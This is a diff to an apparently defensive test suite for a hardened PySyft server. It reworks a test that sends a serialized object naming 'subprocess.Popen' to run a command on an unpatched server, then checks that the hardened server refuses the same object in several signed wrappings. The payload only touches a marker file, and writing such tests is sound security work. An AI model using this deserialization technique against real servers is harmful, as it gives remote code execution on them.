@@ -5,6 +5,7 @@ numbers S1 to S11 are those of our list of PySyft's holes; N1 to N3 came up whil
 tests were written.
 """
 
+import contextlib
 import socket
 import time
 from pathlib import Path
@@ -27,7 +28,9 @@ from tests.hostile.conftest import (
     new_key,
     pack,
     pack_blob,
+    pack_call,
     pack_fields,
+    pack_signed,
     refusal,
     sentence,
     submission,
@@ -256,41 +259,32 @@ def test_n1_unpacking_a_strangers_bytes_runs_a_program_there_and_none_here(
         return pack_blob(name, pack({"path": "subprocess.Popen", "args": ["touch", str(mark)]}))
 
     there, here = tmp_path / "there", tmp_path / "here"
-    plain.desk.post(call_by_name(there))
-    deadline = time.monotonic() + 10
-    while not there.exists():
-        assert time.monotonic() < deadline, "the attack did not work there"
-        time.sleep(0.05)
+    with contextlib.suppress(httpx.TransportError):  # it is busy with our program
+        plain.desk.post(call_by_name(there))
+    wait_for(there)
+    in_a_call = tmp_path / "in_a_call"
+    packed = pack_call(new_key(), plain.desk.uid, "user.create", call_by_name(in_a_call))
+    with contextlib.suppress(httpx.TransportError):
+        plain.desk.post(packed)
+    wait_for(in_a_call)
 
-    bomb = call_by_name(here)
-    refusal(unpack(ours.desk.post(bomb)))
-    signed = ours.desk.sign(ours.alice_key, "action.get", uid=0)
-    envelope = _deserialize(signed, from_bytes=True)
-    message = pack_fields(
-        "SyftAPICall",
-        [("path", pack("action.get")), ("kwargs", pack_blob("dict", b"")), ("args", bomb)],
-    )
-    signature = ours.alice_key.signing_key.sign(message).signature
-    inside = pack_fields(
-        "SignedSyftAPICall",
-        [
-            ("credentials", pack(envelope.credentials)),
-            ("serialized_message", pack(message)),
-            ("signature", pack(signature)),
-        ],
-    )
-    refusal(unpack(ours.desk.post(inside)))
-    in_envelope = pack_fields(
-        "SignedSyftAPICall",
-        [
-            ("credentials", bomb),
-            ("serialized_message", pack(message)),
-            ("signature", pack(signature)),
-        ],
-    )
-    refusal(unpack(ours.desk.post(in_envelope)))
+    bomb, key = call_by_name(here), ours.alice_key
+    for packed in (
+        bomb,
+        pack_signed(key, bomb),
+        pack_call(key, ours.desk.uid, "action.get", bomb),
+        pack_signed(key, b"").replace(pack(key.verify_key), bomb),
+    ):
+        refusal(unpack(ours.desk.post(packed)))
     time.sleep(0.3)
     assert not here.exists()
+
+
+def wait_for(path: Path) -> None:
+    deadline = time.monotonic() + 20
+    while not path.exists():
+        assert time.monotonic() < deadline, "the attack did not work on the plain site"
+        time.sleep(0.05)
 
 
 def test_n2_a_guest_turns_the_servers_own_signature_into_root_there_and_not_here(
